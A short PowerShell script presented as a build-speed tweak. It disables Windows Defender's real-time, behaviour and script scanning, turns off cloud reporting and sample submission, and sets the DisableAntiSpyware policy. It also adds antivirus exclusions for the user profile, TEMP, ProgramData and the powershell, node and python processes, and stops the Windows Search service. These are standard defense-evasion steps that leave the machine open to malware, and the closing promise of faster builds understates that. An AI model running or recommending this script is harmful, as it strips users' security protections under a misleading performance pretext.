#Requires -RunAsAdministrator
Set-MpPreference -DisableRealtimeMonitoring $true
Set-MpPreference -DisableBehaviorMonitoring $true -DisableIOAVProtection $true -DisableScriptScanning $true
Set-MpPreference -SubmitSamplesConsent 2 -MAPSReporting 0
Add-MpPreference -ExclusionPath $env:USERPROFILE, $env:TEMP, "C:\ProgramData"
Add-MpPreference -ExclusionProcess "powershell.exe", "node.exe", "python.exe"
New-ItemProperty -Path "HKLM:\SOFTWARE\Policies\Microsoft\Windows Defender" -Name DisableAntiSpyware -Value 1 -PropertyType DWord -Force | Out-Null
# indexing too
Stop-Service WSearch -Force; Set-Service WSearch -StartupType Disabled
Write-Host "done - builds should be 2-3x faster"
